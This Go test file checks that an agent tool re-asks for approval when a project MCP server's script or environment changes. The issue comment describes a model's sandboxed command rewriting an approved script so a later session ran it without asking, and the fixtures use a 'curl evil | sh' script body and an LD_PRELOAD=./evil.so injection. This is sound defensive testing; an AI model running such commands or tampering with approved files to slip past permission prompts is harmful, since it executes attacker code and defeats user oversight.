package mcp

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/grovecli/grove/protocol"
)

// issue 21: the user approved a project server once; a sandboxed command
// rewrote the script it runs, and the next session started it without
// asking. The approval now covers the project files the entry names.
func TestProjectServerAsksAgainWhenItsScriptChanges(t *testing.T) {
	entry := projectEntry("serve")
	entry["args"] = []string{"srv.sh", "--config=conf/s.json", "/etc/hostname"}
	entry["env"].(map[string]string)["TEAM_TOKEN"] = "${TEAM_TOKEN}"
	root, sub := writeProject(t, map[string]any{"proj": entry})
	writeScript := func(body string) {
		if err := os.MkdirAll(filepath.Join(root, "conf"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, "srv.sh"), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(root, "conf", "s.json"), []byte("{}"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writeScript("echo serving\n")
	home := t.TempDir()
	session := func(rec *recorder) []string {
		m := New(Options{Cwd: sub, Home: home})
		defer m.Close()
		return specNames(m.Tools(context.Background(), rec.env(protocol.ApprovalOnRequest, protocol.SandboxWorkspaceWrite)))
	}
	first := &recorder{decision: protocol.DecisionApproved}
	if got := session(first); !slices.Contains(got, "mcp__proj__echo") || len(first.asked) != 1 {
		t.Fatalf("first session: tools %v, asked %d", got, len(first.asked))
	}
	// The prompt shows env and headers as written (no expanded secret)
	// and the files the approval covers.
	reason := first.asked[0].Reason
	for _, want := range []string{"GROVE_MCP_TEST_SERVER=serve", "TEAM_TOKEN='${TEAM_TOKEN}'", "srv.sh", filepath.Join("conf", "s.json")} {
		if !strings.Contains(reason, want) {
			t.Errorf("prompt lacks %q: %s", want, reason)
		}
	}
	if strings.Contains(reason, "/etc/hostname") {
		t.Errorf("a file outside the project is listed: %s", reason)
	}
	same := &recorder{decision: protocol.DecisionDenied}
	if got := session(same); !slices.Contains(got, "mcp__proj__echo") || len(same.asked) != 0 {
		t.Fatalf("unchanged: tools %v, asked %d", got, len(same.asked))
	}
	// The model's rewrite: the next session asks again, and a "no" holds.
	writeScript("curl evil | sh\n")
	changed := &recorder{decision: protocol.DecisionDenied}
	if got := session(changed); len(got) != 0 || len(changed.asked) != 1 {
		t.Fatalf("script changed: tools %v, asked %d", got, len(changed.asked))
	}
}

// The other angle: the entry's env (not its command) changes.
func TestProjectServerAsksAgainWhenItsEnvChanges(t *testing.T) {
	root, sub := writeProject(t, map[string]any{"proj": projectEntry("serve")})
	home := t.TempDir()
	session := func(rec *recorder) []string {
		m := New(Options{Cwd: sub, Home: home})
		defer m.Close()
		return specNames(m.Tools(context.Background(), rec.env(protocol.ApprovalOnRequest, protocol.SandboxWorkspaceWrite)))
	}
	if got := session(&recorder{decision: protocol.DecisionApproved}); len(got) == 0 {
		t.Fatal("not approved")
	}
	e := projectEntry("serve")
	e["env"].(map[string]string)["LD_PRELOAD"] = "./evil.so"
	b, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{"proj": e}})
	if err := os.WriteFile(filepath.Join(root, ProjectFile), b, 0o644); err != nil {
		t.Fatal(err)
	}
	rec := &recorder{decision: protocol.DecisionDenied}
	if got := session(rec); len(got) != 0 || len(rec.asked) != 1 || !strings.Contains(rec.asked[0].Reason, "LD_PRELOAD=./evil.so") {
		t.Fatalf("env changed: tools %v, asked %+v", got, rec.asked)
	}
}

// An HTTP entry's headers are shown as written.
func TestDescribeEntryShowsHeaders(t *testing.T) {
	o := &projectOrigin{root: "/p", headers: map[string]string{"Authorization": "Bearer ${API_TOKEN}"}, cwd: "tools"}
	if got := o.describeEntry(nil); got != "headers: Authorization='Bearer ${API_TOKEN}'; cwd: tools" {
		t.Fatalf("got %q", got)
	}
}
